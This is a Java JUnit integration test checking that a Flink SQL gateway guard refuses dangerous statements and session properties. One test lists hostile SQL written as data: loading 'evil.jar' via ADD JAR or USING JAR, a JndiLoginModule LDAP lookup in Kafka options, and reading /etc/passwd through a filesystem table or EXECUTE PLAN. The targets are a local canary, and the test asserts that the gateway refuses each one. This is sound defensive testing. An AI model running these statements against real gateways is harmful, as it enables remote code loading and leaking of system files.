package dev.sluice.tests.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.sluice.policy.guard.Finding;
import dev.sluice.policy.guard.GuardCorpus;
import dev.sluice.policy.guard.GuardPolicy;
import dev.sluice.policy.guard.GuardReading;
import dev.sluice.policy.guard.StatementGuard;
import dev.sluice.policy.sql.SqlScript;
import dev.sluice.policy.sql.SqlStatement;
import dev.sluice.policy.validate.Validator;
import dev.sluice.runtime.SluiceStack;
import dev.sluice.testkit.JdbcSql;
import dev.sluice.testkit.Jobs;
import dev.sluice.testkit.SharedStack;
import dev.sluice.testkit.StackParameterResolver;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.apache.flink.table.gateway.api.SqlGatewayService;
import org.apache.flink.table.gateway.api.session.SessionEnvironment;
import org.apache.flink.table.gateway.api.session.SessionHandle;
import org.apache.flink.table.gateway.rest.util.SqlGatewayRestAPIVersion;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** The guard in the live gateway, through the stock JDBC driver. */
@ExtendWith({SharedStack.class, StackParameterResolver.class})
class GuardITCase {

    private final SluiceStack stack;
    private final StatementGuard guard = new StatementGuard(GuardPolicy.defaults());
    private Connection jdbc;

    GuardITCase(SluiceStack stack) {
        this.stack = stack;
    }

    @BeforeEach
    void connect() throws Exception {
        jdbc = DriverManager.getConnection(stack.jdbcUrl());
    }

    @AfterEach
    void disconnect() throws Exception {
        jdbc.close();
    }

    static Stream<Path> goldenFiles() throws URISyntaxException, java.io.IOException {
        return GuardCorpus.files();
    }

    /** Every statement the golden files refuse is refused live, with the same findings. */
    @ParameterizedTest
    @MethodSource("goldenFiles")
    void refusesWhatTheGoldenFilesRefuseWithTheSameMessages(Path file) throws Exception {
        List<String> tablesBefore = JdbcSql.rows(jdbc, "SHOW TABLES");
        for (SqlStatement statement : SqlScript.split(file.toString(), Files.readString(file))) {
            List<Finding> errors =
                    GuardReading.check(guard, statement.text()).stream()
                            .filter(Finding::isError)
                            .toList();
            if (errors.isEmpty()) {
                continue;
            }
            Throwable refusal = catchThrowable(() -> JdbcSql.execute(jdbc, statement.text()));

            assertThat(refusal).as(statement.text()).isNotNull();
            String standalone = SqlStatement.standalone(statement.text()).locate(1, 1);
            for (Finding error : errors) {
                assertThat(JdbcSql.stackTrace(refusal))
                        .contains(error.render(SqlStatement.standalone(statement.text())))
                        .as("located within the statement, e.g. %s", standalone);
            }
        }
        assertThat(JdbcSql.rows(jdbc, "SHOW TABLES")).isEqualTo(tablesBefore);
        assertThat(stack.flink().runningJobs()).isEmpty();
    }

    @Test
    void refusedStatementsNeverReachTheNetworkOrLeakFiles() throws Exception {
        try (Canary canary = new Canary()) {
            String url = "http://127.0.0.1:" + canary.port();
            List<String> attacks =
                    List.of(
                            "ADD JAR '" + url + "/evil.jar'",
                            "CREATE FUNCTION evil AS 'org.example.Evil' USING JAR '"
                                    + url
                                    + "/evil.jar'",
                            "CREATE TABLE jndi (id INT) WITH ('connector' = 'kafka', 'topic' = 't', "
                                    + "'format' = 'json', 'properties.sasl.jaas.config' = "
                                    + "'com.sun.security.auth.module.JndiLoginModule required "
                                    + "user.provider.url=\\\"ldap://127.0.0.1:"
                                    + canary.port()
                                    + "/x\\\";')",
                            "CREATE TABLE token (id INT) WITH ('connector' = 'kafka', 'topic' = 't', "
                                    + "'format' = 'json', 'properties.sasl.oauthbearer.token.endpoint.url' = '"
                                    + url
                                    + "/token')",
                            "CREATE TABLE passwd (line STRING) WITH ('connector' = 'filesystem', "
                                    + "'path' = 'file:///etc/passwd', 'format' = 'raw')",
                            "SELECT * FROM passwd",
                            "EXECUTE PLAN '/etc/passwd'");
            List<String> refusals = new ArrayList<>();
            for (String attack : attacks) {
                Throwable refusal = catchThrowable(() -> JdbcSql.execute(jdbc, attack));
                assertThat(refusal).as(attack).isNotNull();
                refusals.add(JdbcSql.stackTrace(refusal));
            }

            assertThat(canary.connections()).isZero();
            assertThat(String.join("\n", refusals)).doesNotContain("root:x:0:0");
            assertThat(Files.readString(Path.of("target/test.log"))).doesNotContain("root:x:0:0");
            assertThat(JdbcSql.rows(jdbc, "SHOW TABLES")).doesNotContain("jndi", "token", "passwd");
        }
    }

    @Test
    void refusesForbiddenSessionProperties() {
        Throwable refusal =
                catchThrowable(
                        () ->
                                DriverManager.getConnection(
                                                stack.jdbcUrl()
                                                        + "?pipeline.jars=file:///tmp/x.jar")
                                        .createStatement()
                                        .execute("SHOW TABLES"));

        assertThat(refusal).isNotNull();
        assertThat(JdbcSql.stackTrace(refusal))
                .contains("session properties refused")
                .contains("[security-config] 'pipeline.jars' may not be set from a session");
    }

    /**
     * The streaming rules that need the catalog and the planner: what {@code sluice validate}
     * reports offline, the gateway refuses live with the same message.
     */
    @Test
    void refusesWhatValidateReportsWithTheSameMessages() throws Exception {
        Path file =
                Path.of(
                        System.getProperty("sluice.home", ".."),
                        "policy/src/test/resources/validate/streaming.sql");
        int refused = 0;
        try (Validator validator = new Validator(GuardPolicy.defaults())) {
            for (SqlStatement statement :
                    SqlScript.split(file.toString(), Files.readString(file))) {
                List<Finding> errors =
                        validator.validate(statement).stream().filter(Finding::isError).toList();
                Throwable outcome = catchThrowable(() -> JdbcSql.execute(jdbc, statement.text()));
                if (errors.isEmpty()) {
                    assertThat(outcome).as(statement.text()).isNull();
                    continue;
                }
                assertThat(outcome).as(statement.text()).isNotNull();
                for (Finding error : errors) {
                    if (!error.rule().id().startsWith("sql-")) {
                        assertThat(JdbcSql.stackTrace(outcome))
                                .contains("[" + error.rule() + "] " + error.message())
                                .contains("Fix: " + error.fix());
                        refused++;
                    }
                }
            }
        } finally {
            Jobs.cancelAll(stack);
        }
        assertThat(refused).as("event-time and unbounded-state refusals").isEqualTo(4);
    }

    /** The path the SQL client's {@code -i} init scripts take. */
    @Test
    void guardsConfigureSessionToo() {
        SqlGatewayService service = stack.gatewayService();
        SessionHandle session =
                service.openSession(
                        SessionEnvironment.newBuilder()
                                .setSessionEndpointVersion(
                                        SqlGatewayRestAPIVersion.getDefaultVersion())
                                .build());
        try {
            Throwable refusal =
                    catchThrowable(
                            () ->
                                    service.configureSession(
                                            session, "ADD JAR 'file:///tmp/evil.jar';", -1));

            assertThat(refusal)
                    .hasMessageContaining(
                            "line 1, column 9: [security-code] ADD JAR would load code from outside Sluice");
        } finally {
            service.closeSession(session);
        }
    }
}
